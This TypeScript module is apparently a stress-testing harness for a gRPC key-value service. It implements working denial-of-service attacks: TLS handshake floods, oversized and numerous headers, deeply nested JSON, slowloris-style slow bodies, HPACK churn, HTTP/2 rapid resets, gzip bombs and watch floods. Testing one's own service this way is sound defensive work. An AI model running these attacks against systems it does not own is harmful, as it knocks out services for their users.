/**
 * What a client without rights can do to a port that costs its processor: each attack goes on until
 * it is to stop, as fast as its own thread can, and says how often it was done.
 */
import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
import { connect as connectSocket, type Socket } from "node:net";
import { connect as connectTls, createSecureContext, type SecureContext } from "node:tls";
import { gzipSync } from "node:zlib";
import {
  fromUtf8,
  KVService,
  WatchCreateRequest,
  WatchRequest,
  WatchService,
} from "@quorate/proto";
import type { ClientIdentity } from "../scripts/cluster/health.ts";

export interface Attacked {
  readonly url: URL;
  /** Of a port with TLS. */
  readonly identity: ClientIdentity | undefined;
  isOver(): boolean;
}

/** Resolves with how often it was done. */
export type Attack = (attacked: Attacked) => Promise<number>;

const MIB: number = 1024 * 1024;
/** What is under way at a time, where an attack does not say otherwise. */
const AT_A_TIME = 50;
const SLOW_BODIES = 500;
const RESETS_A_ROUND = 1000;
const WATCHES_A_STREAM = 1000;
/** Of the response to a watch that is made; no fewer. */
const CREATED_BYTES = 20;
const BOMB_BYTES: number = 64 * MIB;

/** Does `one` again and again, so many at a time. One that fails counts, and is done again. */
async function again(
  { isOver }: Attacked,
  atATime: number,
  one: () => Promise<void>,
): Promise<number> {
  let done = 0;
  const loop = async (): Promise<void> => {
    while (!isOver()) {
      await one();
      done++;
    }
  };
  const over = async (): Promise<void> => {
    while (!isOver()) await new Promise((resolve) => setTimeout(resolve, 50));
  };
  // What hangs is left: the thread ends.
  await Promise.race([over(), Promise.all(Array.from({ length: atATime }, loop))]);
  return done;
}

/** A connection by which `bytes` are sent; resolves at the first answer, or when it is closed. */
function exchange(url: URL, bytes: string | Uint8Array): Promise<void> {
  return new Promise((resolve) => {
    const socket = connectSocket(Number(url.port), url.hostname, () => socket.write(bytes));
    const end = (): void => {
      socket.destroy();
      resolve();
    };
    socket.on("error", end).on("close", end).once("data", end);
  });
}

function handshakes(attacked: Attacked): Promise<number> {
  const { url, identity } = attacked;
  const { ca = "", cert = "", key = "" } = identity ?? {};
  const secureContext: SecureContext = createSecureContext({ ca, cert, key });
  return again(
    attacked,
    AT_A_TIME,
    () =>
      new Promise((resolve) => {
        const socket = connectTls({
          host: url.hostname,
          port: Number(url.port),
          ALPNProtocols: ["h2"],
          secureContext,
        });
        const end = (): void => {
          socket.destroy();
          resolve();
        };
        socket.on("error", end).once("secureConnect", end);
      }),
  );
}

const text = (attacked: Attacked, bytes: string): Promise<number> =>
  again(attacked, AT_A_TIME, () => exchange(attacked.url, bytes));

const post = (path: string, body: string): string =>
  `POST ${path} HTTP/1.1\r\nhost: a\r\ncontent-length: ${body.length}\r\n\r\n${body}`;

/** Runs `round` on sessions of HTTP/2, each used until it ends. */
function onSessions(
  attacked: Attacked,
  atATime: number,
  round: (session: ClientHttp2Session) => Promise<void>,
): Promise<number> {
  let session: ClientHttp2Session | undefined;
  const current = (): ClientHttp2Session => {
    if (session === undefined || session.closed || session.destroyed)
      session = connectHttp2(attacked.url).on("error", () => {});
    return session;
  };
  return again(attacked, atATime, () => round(current())).finally(() => session?.destroy());
}

/**
 * A call whose request is `bytes`; resolves at its end.
 * @param mostBytes of the response, after which the client cancels
 */
function call(
  session: ClientHttp2Session,
  path: string,
  headers: Readonly<Record<string, string>>,
  bytes: Uint8Array,
  mostBytes: number = Number.POSITIVE_INFINITY,
): Promise<void> {
  return new Promise((resolve) => {
    const stream = session.request({
      ":method": "POST",
      ":path": path,
      "content-type": "application/grpc",
      te: "trailers",
      ...headers,
    });
    let receivedBytes = 0;
    stream
      .on("error", () => {})
      .on("close", resolve)
      .on("data", (chunk: Buffer) => {
        receivedBytes += chunk.length;
        if (receivedBytes >= mostBytes) stream.close(8);
      });
    stream.end(bytes);
  });
}

function framed(message: Uint8Array, isCompressed = false): Uint8Array {
  const head = Buffer.alloc(5);
  head[0] = isCompressed ? 1 : 0;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** Fields that are in no table, in Huffman's code. */
const FIELDS = Object.fromEntries(
  Array.from({ length: 100 }, (_, i) => [`x-field-${i}`, `${i}`.repeat(40).slice(0, 60)]),
);

function hpack(attacked: Attacked): Promise<number> {
  let number = 0;
  return onSessions(attacked, AT_A_TIME, (session) =>
    call(
      session,
      KVService.methods.Range.path,
      { ...FIELDS, "x-new": `${number++}`.padStart(4000, "e") },
      framed(new Uint8Array(0)),
    ),
  );
}

function resets(attacked: Attacked): Promise<number> {
  return onSessions(attacked, 1, async (session) => {
    for (let i = 0; i < RESETS_A_ROUND && !session.destroyed; i++) {
      const stream = session.request({ ":method": "POST", ":path": "/v3/kv/range" });
      stream.on("error", () => {}).close(8);
    }
    await new Promise((resolve) => setImmediate(resolve));
  });
}

function bombs(attacked: Attacked): Promise<number> {
  const bomb = framed(gzipSync(new Uint8Array(BOMB_BYTES)), true);
  return onSessions(attacked, 8, (session) =>
    call(session, KVService.methods.Put.path, { "grpc-encoding": "gzip" }, bomb),
  );
}

function watches(attacked: Attacked): Promise<number> {
  const key = fromUtf8("attacked");
  const create = framed(
    WatchRequest.encode({
      requestUnion: { case: "createRequest", value: WatchCreateRequest.create({ key }) },
    }),
  );
  const creates = Buffer.concat(Array<Uint8Array>(WATCHES_A_STREAM).fill(create));
  return onSessions(attacked, 4, (session) =>
    call(session, WatchService.methods.Watch.path, {}, creates, WATCHES_A_STREAM * CREATED_BYTES),
  );
}

/** Requests whose bodies come by a byte, on many connections at once. */
async function slowBodies({ url, isOver }: Attacked): Promise<number> {
  let bytes = 0;
  const sockets = new Set<Socket>();
  const open = (): void => {
    const socket = connectSocket(Number(url.port), url.hostname);
    sockets.add(socket);
    socket.write("POST /v3/kv/range HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n");
    socket
      .on("error", () => {})
      .on("close", () => sockets.delete(socket))
      .resume();
  };
  while (!isOver()) {
    while (sockets.size < SLOW_BODIES) open();
    for (const socket of sockets) {
      socket.write("1");
      bytes++;
    }
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
  for (const socket of sockets) socket.destroy();
  return bytes;
}

/** Each by its name, with whether it needs a port with TLS. */
export const attacks: Readonly<Record<string, { readonly run: Attack; readonly tls?: true }>> = {
  "TLS handshakes": { run: handshakes, tls: true },
  "headers of 60 KB": {
    run: (attacked) =>
      text(attacked, `GET /health HTTP/1.1\r\nhost: a\r\na: ${"b,".repeat(30_000)}\r\n\r\n`),
  },
  "5,000 headers": {
    run: (attacked) =>
      text(attacked, `GET /health HTTP/1.1\r\nhost: a\r\n${"a: b\r\n".repeat(5000)}\r\n`),
  },
  "deep JSON of 1 MB": {
    run: (attacked) => text(attacked, post("/v3/kv/range", `{"key":${"[".repeat(1_000_000)}`)),
  },
  "wide JSON of 1 MB": {
    run: (attacked) =>
      text(attacked, post("/v3/kv/txn", `{"compare":[${"{},".repeat(330_000)}{}]}`)),
  },
  "bodies by the byte": { run: slowBodies },
  "HPACK, 10 KB new each": { run: hpack },
  "streams that are reset": { run: resets },
  "bombs of gzip": { run: bombs },
  "watches, 1,000 a stream": { run: watches },
};
